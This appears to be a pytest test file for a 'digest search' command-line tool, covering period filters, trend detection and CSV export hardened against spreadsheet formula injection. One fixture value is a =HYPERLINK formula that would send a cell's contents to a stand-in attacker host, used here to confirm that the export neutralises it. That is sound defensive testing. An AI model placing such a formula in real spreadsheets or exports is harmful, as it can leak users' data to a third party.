"""`digest search`: periods, tables that no spreadsheet executes, trends."""

import csv
import io
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli import table
from digest.records import Digest, Document, Item, Provenance
from digest.schema import FIELDS, DigestFields
from digest.storage.ledger import Ledger

DIGEST = str(Path(sys.executable).with_name("digest"))
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
TODAY = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0)


def fill(path: Path, stories: list[tuple[int, str, str, list[str]]]) -> None:
    """Rows of (days ago, publisher, title, names)."""
    with Ledger(path) as ledger:
        for number, (days, publisher, title, names) in enumerate(stories):
            item = Item(f"d{number}", 0, "story", title, f"{title}.", f"https://e.example/{number}")
            home = Document(
                f"d{number}", "folder:x", "o", publisher, title, TODAY - timedelta(days=days), "",
                title, (item,),
            )  # fmt: skip
            ledger.add_document(f"m{number}", home)
            fields = DigestFields(title=title[:120], names=names, relevance_score=5)
            ledger.keep(item, FIELDS, "m", Digest(fields, Provenance("embedded", "m", "1")))


@pytest.fixture
def ledger(tmp_path):
    path = tmp_path / "ledger.db"
    fill(
        path,
        [
            *((n, f"P{n % 4}", f"Parliament {n}", ["Parliament"]) for n in range(8, 34)),
            *((n % 4 + 1, f"P{n % 4}", f"Parliament now {n}", ["Parliament", "Kestrel 4"])
              for n in range(12)),
            (2, "=P", EVIL, ["+1", "@x", 'a"b', "c;d,e"]),
            (40, "Old", "Parliament long ago", ["Parliament"]),
        ],
    )  # fmt: skip
    return path


def search(ledger: Path, *words: str) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run(
        [DIGEST, "search", "--ledger", str(ledger), *words], capture_output=True, check=False,
        cwd=ledger.parent,
    )  # fmt: skip


def hits(ledger: Path, *words: str) -> list[str]:
    done = search(ledger, "--json", "--limit", "100", *words)
    return [hit["title"] for hit in json.loads(done.stdout)["hits"]]


def test_a_period_is_searched(ledger):
    assert len(hits(ledger, "parliament")) == 26 + 12 + 1
    assert len(hits(ledger, "parliament", "--since", "7d")) == 12
    assert hits(ledger, "parliament", "--until", "36d") == ["Parliament long ago"]


def test_the_table_holds_everything_and_executes_nothing(ledger):
    done = search(ledger, "--csv")
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout.decode(), newline="")))
    assert len(rows) == 26 + 12 + 1 + 1
    (evil,) = [row for row in rows if "evil" in row["title"]]
    assert evil["title"] == f"'{EVIL}"
    assert evil["publisher"] == "'=P"
    assert evil["names"] == "'+1; @x; a\"b; c;d,e"
    assert evil["relevance"] == "5"
    assert done.stdout.count(b"\r\n") == len(rows) + 1
    limited = search(ledger, "--csv", "--since", "7d", "--limit", "3", "parliament").stdout
    assert limited.count(b"\r\n") == 4


@given(
    st.lists(
        st.text(st.sampled_from("=+-@\t\r\n ,;\"'aé\0") | st.characters(exclude_categories=["Cs"])),
        min_size=1,
        max_size=4,
    )
)
def test_every_cell_reads_back_and_none_begins_a_formula(cells):
    columns = [f"column {n}" for n in range(len(cells))]
    stream = io.StringIO(newline="")
    table.write(stream, columns, [dict(zip(columns, cells, strict=True))])
    stream.seek(0)
    header, row = csv.reader(stream)
    assert header == columns
    for cell, text in zip(row, cells, strict=True):
        assert cell.removeprefix("'") == text.replace("\0", "").removeprefix("'")
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("value", [-3, 2.5, 0])
def test_numbers_of_ours_stay_numbers(value):
    assert table.neutral(value) == str(value)


def test_trends_of_a_period(ledger):
    told = json.loads(search(ledger, "--trends", "--since", "7d", "--json").stdout)
    assert (told["now"], told["before"]) == (13, 26)
    (kestrel,) = [one for one in told["found"] if one["label"] == "Kestrel 4"]
    assert (kestrel["direction"], kestrel["now"], kestrel["before"]) == ("new", 12, 0)
    assert kestrel["publishers"] == 4 and 0 < kestrel["p"] < 0.05
    lines = search(ledger, "--trends").stdout.decode()
    assert "new     Kestrel 4 (name): 12 now, 0 before, 4 publishers" in lines
    quiet = search(ledger, "--trends", "--since", "20d", "--until", "8d")
    assert b"nothing that chance" in quiet.stderr and quiet.returncode == 0


@pytest.mark.parametrize("words", [[], ["--csv", "--json"], ["--csv", "--trends"]])
def test_what_does_not_go_together_is_wrong_usage(ledger, words):
    done = search(ledger, *words)
    assert done.returncode == 2 and b"--csv" in done.stderr


def test_an_empty_ledger_has_an_empty_table_and_no_trends(tmp_path):
    path = tmp_path / "new.db"
    assert search(path, "--csv").stdout.count(b"\n") == 1
    assert search(path, "--trends").returncode == 0
